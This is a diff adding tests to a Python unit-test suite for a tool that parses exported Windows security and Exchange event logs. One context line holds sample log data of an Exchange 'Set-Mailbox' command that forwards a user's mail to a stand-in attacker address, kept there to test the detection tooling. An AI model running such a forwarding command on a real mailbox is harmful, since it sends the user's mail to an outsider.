@@ -151,6 +151,23 @@ class EventExports(unittest.TestCase):
             self.expect_reset(event, name)
             self.assertEqual(event["event"]["outcome"], "success" if level == "8" else "failure", name)
 
+    def test_gelf_has_its_values_beside_the_message(self):
+        event = {"_EventID": 4724, "_Channel": "Security", "_SourceName": "Microsoft-Windows-Security-Auditing",
+                 "_TargetUserName": "anna", "_TargetDomainName": "CORP", "_SubjectUserName": "help"}
+        frame = {"version": "1.1", "host": "dc1", "short_message": "An attempt", "timestamp": 1714629647.5}
+        text = "".join(json.dumps(frame | event | {"_RecordNumber": number}) + "\n" for number in range(3))
+        events = parsed(written(self.folder, "gelf.json", text))
+        self.assertEqual([event["tocsin"]["format"] for event in events], ["windows-json"] * 3)
+        self.expect_reset(events[0], "gelf")
+
+    def test_values_without_a_name_in_a_table_are_a_list(self):
+        values = json.dumps({"Data": ["Set-Mailbox", '-Identity "anna"', "corp.example/Users/Help"]}).replace('"', '""')
+        text = ("TimeGenerated [UTC],Provider,Channel,Computer,EventID,EventData\n"
+                f'"5/2/2024, 6:00:20 AM",MSExchange CmdletLogs,MSExchange Management,ex1,1,"{values}"\n')
+        native = parsed(written(self.folder, "windowsevent.csv", text))[0]["tocsin"]["native"]
+        self.assertEqual((native["Cmdlet"], native["Parameters.Identity"], native["Caller"]),
+                         ("Set-Mailbox", "anna", "corp.example/Users/Help"))
+
     def test_evtxecmd_joins_values_and_writes_utc(self):
         values = ('Set-Mailbox, -Identity "anna, a" -ForwardingSmtpAddress "smtp:x@evil.example", '
                   "corp.example/Users/Weber, Ana, S-1-5-21-1-2-3-1104, S-1-5-21-1-2-3-1104, OWA, 1 w3wp, , 34")
